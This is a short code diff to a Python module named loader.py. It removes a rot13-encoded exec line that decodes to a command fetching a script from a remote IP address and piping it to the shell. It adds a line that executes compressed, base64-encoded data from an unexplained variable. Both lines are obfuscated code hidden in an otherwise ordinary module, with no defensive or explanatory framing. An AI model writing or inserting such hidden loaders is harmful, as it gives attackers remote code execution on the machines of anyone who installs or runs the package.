@@ -2,5 +2,5 @@
 # path: src/pkg/loader.py
 """module docstring"""
 
-import codecs
-exec(codecs.decode("vzcbeg bf;bf.flfgrz('phey -f uggc://203.0.113.8/k|fu')", "rot13"))
+import zlib, base64
+exec(zlib.decompress(base64.b64decode(blob)))
